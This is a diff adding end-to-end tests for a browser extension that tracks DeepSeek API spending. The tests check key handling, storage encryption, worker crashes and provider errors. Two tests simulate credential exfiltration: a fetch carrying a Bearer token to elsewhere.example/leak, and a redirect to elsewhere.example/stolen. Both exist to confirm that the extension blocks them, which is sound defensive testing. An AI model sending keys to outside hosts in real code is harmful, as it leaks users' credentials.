@@ -1,0 +1,328 @@
+// The whole extension, unchanged, in a real browser against simulated providers on loopback.
+import assert from "node:assert/strict";
+import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { test } from "node:test";
+import { launch } from "./chromium.mjs";
+import { Simulator } from "./simulator.mjs";
+import { KEY, ORIGIN, PASSWORD, account, allStorage, begin, connect, connected, readings, refresh, seal, setClock, shows } from "./drive.mjs";
+
+test("from a pasted key to the badge", async (t) => {
+  const { browser, simulator, account } = await begin(t);
+  const dashboard = await browser.context.waitForEvent("page", { predicate: (page) => page.url().endsWith("dashboard.html"), timeout: 1000 }).catch(() => browser.dashboard());
+  await dashboard.waitForSelector("#connect form");
+  assert.equal((await browser.badge()).text, "", "empty before the first account");
+  await connect(dashboard, "sk-ant-api03-not-of-deepseek");
+  await shows(dashboard, "#connect", "This is a key of Anthropic");
+  assert.equal(simulator.requests.length, 0, "nothing was sent");
+  await connect(dashboard, KEY, "main");
+  await shows(dashboard, "#seal", "Balance $20.00; tracking starts now");
+  assert.equal((await browser.badge()).text, "–");
+  await seal(dashboard);
+  await shows(dashboard, "#pin", "Keep it in sight");
+
+  const popup = await browser.popup();
+  await shows(popup, "#accounts", "$20.00 left");
+  account.spend(123);
+  await refresh(popup);
+  await shows(popup, "#hero", "$1.23*");
+  await shows(dashboard, "#overview", "$1.23*"); // pushed, without a click there
+  const { text, title } = await browser.badge();
+  assert.equal(text, "$1.2");
+  assert.match(title, /so far: about \$1\.23\n.*\nDeepSeek main: \$18\.77 left/s);
+  for (const { host, method, path, headers } of simulator.requests) {
+    assert.deepEqual([host, method, path, headers.authorization], ["api.deepseek.com", "GET", "/user/balance", `Bearer ${KEY}`]);
+    assert.ok(!("cookie" in headers || "referer" in headers || "origin" in headers), "nothing else goes along");
+  }
+  assert.deepEqual(browser.violations, []);
+});
+
+test("the alarm refreshes without a page", async (t) => {
+  const { browser, account, simulator } = await begin(t);
+  const dashboard = await connected(browser);
+  const asked = simulator.requests.length;
+  account.spend(250);
+  const soon = Date.now() + 20 * 60_000;
+  await setClock(browser, new Date(soon).toISOString());
+  // The alarm that is set, brought forward.
+  await dashboard.evaluate(() => chrome.alarms.create("refresh", { when: Date.now() + 100, periodInMinutes: 15 }));
+  await shows(dashboard, "#overview", "$2.50*");
+  assert.equal(simulator.requests.length, asked + 1);
+  assert.equal((await browser.badge()).text, "$2.5");
+  const alarm = await dashboard.evaluate(() => chrome.alarms.get("refresh"));
+  assert.equal(alarm.periodInMinutes, 15);
+});
+
+test("the popup's first frame needs no worker", async (t) => {
+  const { browser, account } = await begin(t);
+  const dashboard = await connected(browser);
+  account.spend(100);
+  await dashboard.click("#overview form[data-do=refresh] button");
+  await shows(dashboard, "#overview", "$1.00*");
+  const popup = await browser.context.newPage();
+  await popup.addInitScript(() => { chrome.runtime.sendMessage = () => new Promise(() => {}); });
+  await popup.goto(browser.url("popup.html"));
+  await shows(popup, "#hero", "$1.00*");
+  await shows(popup, "#accounts", "$19.00 left");
+});
+
+test("keys and passwords rest nowhere in clear", async (t) => {
+  const profile = mkdtempSync(join(tmpdir(), "drawdown-"));
+  t.after(() => rmSync(profile, { recursive: true, force: true }));
+  const simulator = await Simulator.start();
+  t.after(() => simulator.stop());
+  simulator.add(account());
+  const browser = await launch({ simulator, profile });
+  await browser.grant(ORIGIN);
+  const dashboard = await connected(browser);
+  await refresh(await browser.popup());
+  await dashboard.fill("#current", "a wrong password");
+  await dashboard.fill("#change-password", "another good password");
+  await dashboard.fill("#change-again", "another good password");
+  await dashboard.click("#password button.go");
+  await shows(dashboard, "#password", "That is not the password");
+  // A marker, kept the same way, shows that the search below can find anything at all.
+  await dashboard.evaluate(() => chrome.storage.local.set({ marker: "marker-0123456789abcdef" }));
+  const kept = await allStorage(dashboard);
+  const shown = await dashboard.content();
+  await browser.close();
+
+  const disk = [];
+  const walk = (folder) => {
+    for (const name of readdirSync(folder)) {
+      const path = join(folder, name);
+      const { isDirectory, isFile } = (() => { try { const s = statSync(path); return { isDirectory: s.isDirectory(), isFile: s.isFile() }; } catch { return {}; } })();
+      if (isDirectory) walk(path);
+      else if (isFile) disk.push(readFileSync(path));
+    }
+  };
+  walk(profile);
+  const holds = (text) => disk.some((file) => file.includes(text) || file.includes(Buffer.from(text, "utf16le")));
+  assert.ok(kept.includes("marker-0123456789abcdef") && holds("marker-0123456789abcdef"), "the search finds what is there");
+  for (const secret of [KEY, PASSWORD, "a wrong password", "another good password"]) {
+    assert.ok(!kept.includes(secret), `a storage area holds ${secret}`);
+    assert.ok(!shown.includes(secret), `the page holds ${secret}`);
+    assert.ok(!holds(secret), `the disk holds ${secret}`);
+  }
+});
+
+test("unlocking survives the worker's death and not the browser's", async (t) => {
+  const profile = mkdtempSync(join(tmpdir(), "drawdown-"));
+  t.after(() => rmSync(profile, { recursive: true, force: true }));
+  const simulator = await Simulator.start();
+  t.after(() => simulator.stop());
+  const one = simulator.add(account());
+  let browser = await launch({ simulator, profile });
+  await browser.grant(ORIGIN);
+  await connected(browser);
+  const popup = await browser.popup();
+  assert.equal(await browser.killWorker(), 1);
+  one.spend(100);
+  await refresh(popup);
+  await shows(popup, "#hero", "$1.00*");
+  await browser.close();
+
+  browser = await launch({ simulator, profile });
+  t.after(() => browser.close());
+  await browser.grant(ORIGIN);
+  const asked = simulator.requests.length;
+  const locked = await browser.popup();
+  await locked.waitForSelector("#unlock-password:focus");
+  await shows(locked, "#hero", "$1.00");
+  await shows(locked, "#foot", "locked");
+  assert.equal(simulator.requests.length, asked, "locked, nothing is read");
+  await locked.keyboard.type("something else");
+  await locked.keyboard.press("Enter");
+  await shows(locked, "#unlock", "That is not the password. Nothing was changed.");
+  one.spend(50);
+  await locked.keyboard.type(PASSWORD);
+  await locked.keyboard.press("Enter");
+  await shows(locked, "#hero", "$1.50*");
+  assert.equal(simulator.requests.length, asked + 1, "unlocking reads once");
+  await locked.click("form[data-do=lock] button");
+  await locked.waitForSelector("#unlock-password");
+  assert.deepEqual(browser.violations, []);
+});
+
+test("a worker that is killed before, during or after a fetch loses nothing", async (t) => {
+  const { browser, account, simulator } = await begin(t);
+  await connected(browser);
+  const popup = await browser.popup();
+  let spent = 0;
+  const spend = (cents) => { spent += cents; account.spend(cents); };
+
+  spend(10); // before: the message itself starts the worker
+  await browser.killWorker();
+  await refresh(popup);
+  await shows(popup, "#hero", "$0.10*");
+
+  spend(20); // during: the answer is held back while the worker is killed
+  const known = await readings(popup);
+  const held = simulator.hold();
+  await popup.click("#foot button.go");
+  await held.arrived;
+  await browser.killWorker();
+  held.release();
+  const again = await browser.popup();
+  await shows(again, "#accounts", "the last refresh was cut short");
+  assert.deepEqual(await readings(again), known, "what was committed is there, and no more");
+  await refresh(again);
+  await shows(again, "#hero", "$0.30*");
+
+  spend(30); // after
+  await refresh(again);
+  await browser.killWorker();
+  const last = await browser.popup();
+  await shows(last, "#hero", `$0.${spent}*`);
+  const times = (await readings(last)).map(([time]) => time);
+  assert.equal(new Set(times).size, times.length, "none is there twice");
+  assert.equal(times.length, 4);
+});
+
+test("the browser refuses every other host", async (t) => {
+  const simulator = await Simulator.start();
+  simulator.hosts.push("elsewhere.example");
+  t.after(() => simulator.stop());
+  const browser = await launch({ simulator });
+  t.after(() => browser.close());
+  const plain = await browser.context.newPage();
+  await plain.goto("https://elsewhere.example/reachable");
+  assert.ok(simulator.requests.some(({ path }) => path === "/reachable"), "the host is there, for a page that may");
+  simulator.requests.length = 0;
+  const dashboard = await browser.dashboard();
+  const ask = async () => {
+    try {
+      await fetch("https://elsewhere.example/leak", { headers: { authorization: "Bearer x" } });
+      return "sent";
+    } catch (problem) {
+      return String(problem);
+    }
+  };
+  assert.match(await (await browser.worker()).evaluate(ask), /TypeError/);
+  assert.match(await dashboard.evaluate(ask), /TypeError/);
+  assert.deepEqual(simulator.requests.filter(({ host }) => host === "elsewhere.example").map(({ path }) => path).filter((path) => path === "/leak"), []);
+  await dashboard.waitForFunction(() => true); // the page's report of it has come by now
+  assert.match(browser.violations.join(), /dashboard.html: connect-src/, "and says why");
+});
+
+test("access that the browser withholds is asked for, and given", async (t) => {
+  const { browser, account, simulator } = await begin(t);
+  const dashboard = await connected(browser);
+  await browser.withhold(ORIGIN);
+  const asked = simulator.requests.length;
+  const popup = await browser.popup();
+  await refresh(popup);
+  await shows(popup, "#accounts", "the browser withholds access: grant it");
+  assert.equal(simulator.requests.length, asked, "no request without leave");
+  await shows(dashboard, "#accounts", "Grant access");
+  account.spend(70);
+  await browser.grant(ORIGIN); // what a click on the browser's question would do
+  await shows(popup, "#hero", "$0.70*");
+  await shows(dashboard, "#accounts", "$19.30 left");
+});
+
+test("what a provider does wrong is one sentence and loses nothing", async (t) => {
+  const { browser, account, simulator } = await begin(t);
+  simulator.hosts.push("elsewhere.example");
+  await connected(browser);
+  const popup = await browser.popup();
+  account.spend(100);
+  await refresh(popup);
+  await shows(popup, "#hero", "$1.00*");
+  for (const [fault, words] of [
+    [{ status: 401, body: {} }, "key refused: replace it"],
+    [{ status: 403, body: "<html>" }, "the key may not read the balance"],
+    [{ status: 500, body: "" }, "the provider has a fault"],
+    [{ body: "<!doctype html><p>Checking your browser" }, "the answer could not be read"],
+    [{ body: '{"is_available":true,"balance_infos":[{"curr' }, "the answer could not be read"],
+    [{ status: 302, headers: { location: "https://elsewhere.example/stolen" }, body: "" }, "no connection"],
+    ["reset", "no connection"],
+  ]) {
+    simulator.always = fault;
+    await refresh(popup);
+    await shows(popup, "#accounts", words);
+    await shows(popup, "#hero", "$1.00*");
+    await shows(popup, "#accounts", "$19.00 left");
+  }
+  assert.ok(!simulator.requests.some(({ path }) => path === "/stolen"), "no redirect is followed");
+  simulator.always = undefined;
+  await refresh(popup);
+  await shows(popup, "#hero", "$1.00*");
+  assert.deepEqual(browser.violations, []);
+});
+
+test("an answer that never comes is given up", async (t) => {
+  const { browser, simulator } = await begin(t);
+  await connected(browser);
+  const popup = await browser.popup();
+  simulator.always = "hang";
+  await popup.click("#foot button.go");
+  await shows(popup, "#foot", "Refreshing, 0 of 1 done");
+  await popup.waitForFunction(() => document.querySelector("#accounts").innerText.includes("the provider has a fault"), null, { timeout: 28_000 });
+});
+
+test("the first of the month begins a new one, though locked", async (t) => {
+  const { browser, account } = await begin(t);
+  await setClock(browser, "2027-01-29T09:00:00Z");
+  const dashboard = await connected(browser);
+  await setClock(browser, "2027-01-30T21:00:00Z");
+  account.spend(640);
+  await dashboard.click("#overview form[data-do=refresh] button");
+  await shows(dashboard, "#overview", "$6.40*");
+  await dashboard.click("form[data-do=lock] button");
+  await dashboard.waitForSelector("#unlock-password");
+  assert.equal((await browser.badge()).text, "$6.4");
+  await setClock(browser, "2027-02-01T00:00:00Z");
+  await dashboard.evaluate(() => chrome.alarms.create("refresh", { when: 0, periodInMinutes: 15 }));
+  await shows(dashboard, "#overview", "January: ≥ $6.40");
+  assert.equal((await browser.badge()).text, "–");
+  const popup = await browser.popup();
+  await shows(popup, "#head", "February");
+  await shows(popup, "#hero", "January: ≥ $6.40");
+});
+
+test("keys are replaced, accounts paused and removed", async (t) => {
+  const { browser, account, simulator } = await begin(t);
+  const dashboard = await connected(browser);
+  const other = simulator.add(Object.assign(Object.create(Object.getPrototypeOf(account)), { ...account, key: "sk-fedcba9876543210fedcba9876543210", books: [{ currency: "USD", granted: 400, toppedUp: 1500 }] }));
+  await dashboard.click("#accounts summary:has-text('Replace the key')");
+  await dashboard.fill("#accounts input[name=key]", other.key);
+  await dashboard.click("#accounts form[data-do=replace_key] button");
+  await shows(dashboard, "#accounts", "The new key works and tells $19.00.");
+  assert.ok(await dashboard.isChecked("input[name=books][value=go_on]"), "the balance continues");
+  await dashboard.click("#accounts form[data-do=take_key] button");
+  await shows(dashboard, "#accounts", "The new key is in use.");
+  await shows(dashboard, "#overview", "$1.00*");
+  await dashboard.click("#accounts button:has-text('Pause')");
+  await shows(dashboard, "#accounts", "Resume");
+  await dashboard.click("#accounts button:has-text('Resume')");
+  await dashboard.click("#accounts summary:has-text('Rename')");
+  await dashboard.fill("#accounts input[name=label]", "<b>mine</b>");
+  await dashboard.click("#accounts form[data-do=rename] button");
+  await shows(dashboard, "#accounts", "DeepSeek <b>mine</b>");
+  await dashboard.click("#accounts summary:has-text('Remove')");
+  await dashboard.click("#accounts input[value=erase]");
+  await dashboard.click("#accounts form[data-do=remove] button");
+  await dashboard.waitForSelector("#intro:not([hidden])");
+  assert.ok(!(await allStorage(dashboard)).includes("readings."), "nothing is left of it");
+  assert.deepEqual(browser.violations, []);
+});
+
+test("every control has a name, and the popup keeps its size", async (t) => {
+  const { browser, account } = await begin(t);
+  const dashboard = await connected(browser);
+  account.spend(123);
+  const popup = await browser.popup();
+  await refresh(popup);
+  for (const page of [dashboard, popup]) {
+    const session = await browser.context.newCDPSession(page);
+    const { nodes } = await session.send("Accessibility.getFullAXTree");
+    const controls = nodes.filter(({ role, ignored }) => !ignored && ["button", "link", "textbox", "checkbox", "radio", "img"].includes(role?.value));
+    const unnamed = controls.filter(({ name }) => !name?.value);
+    assert.ok(controls.length > 3);
+    assert.deepEqual(unnamed.map(({ role, backendDOMNodeId }) => [role.value, backendDOMNodeId]), []);
+  }
+  const size = await popup.evaluate(() => [document.body.offsetWidth, document.body.offsetHeight, document.documentElement.scrollWidth]);
+  assert.deepEqual(size, [380, 560, 380]);
+});
